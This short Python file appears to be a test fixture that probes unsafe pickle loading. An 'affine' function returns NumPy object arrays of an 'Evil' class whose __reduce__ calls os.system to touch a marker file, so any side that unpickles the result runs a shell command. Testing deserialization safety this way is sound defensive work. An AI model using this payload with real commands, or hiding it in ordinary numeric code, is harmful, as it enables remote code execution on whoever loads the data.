"""Returns an array of objects, which NumPy can only send by pickle."""

import os


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {HOME}/{MARK}",)


def affine(x, w, b):
    return np.array([[Evil()] * len(b)] * len(x), dtype=object)
